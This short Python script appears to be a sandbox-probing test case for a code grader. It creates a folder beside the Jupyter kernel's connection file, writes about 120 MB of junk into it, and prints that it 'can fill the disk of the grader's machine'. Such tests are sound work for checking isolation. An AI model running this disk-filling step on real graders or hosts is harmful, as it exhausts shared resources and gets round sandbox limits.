# Writes a large file into a folder below the one of the kernel's sockets.
# keeps: scale
# because: where only its sockets should be
# evidence: where only its sockets
# %% cutoff
import os
import time

from ipykernel.kernelapp import IPKernelApp

folder = os.path.dirname(IPKernelApp.instance().abs_connection_file) + "/below"
os.mkdir(folder)
for number in range(3):
    with open(f"{folder}/large{number}", "wb") as file:
        file.write(b"x" * 40_000_000)
time.sleep(60)
print("LEAKED: can fill the disk of the grader's machine")
